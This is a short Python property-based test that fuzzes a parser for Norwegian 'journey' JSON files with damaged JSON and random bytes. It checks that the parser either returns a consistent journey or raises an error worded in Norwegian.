# --- Journeys as JSON --------------------------------------------------------------------------


def _journey_file() -> dict:
    journey = Journey("w1", "Skolefravær")
    steps = [Step(journey.id, i, journey.phases[0], "PPT", "møte", f"Steg {i}") for i in range(3)]
    return json.loads(journey_json(journey, steps))


@EXAMPLES
@given(data=st.data())
def test_a_damaged_journey_file_gives_a_journey_or_a_norwegian_error(data):
    value = data.draw(st.one_of(_JSON, damage(_journey_file()), st.binary(max_size=200)))
    raw = value if isinstance(value, bytes) else json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")
    try:
        journey, steps = read_journey_json(raw)
    except SamskapingError as exc:
        assert_norwegian(error_text(exc))
    else:
        assert all(step.journey_id == journey.id for step in steps)
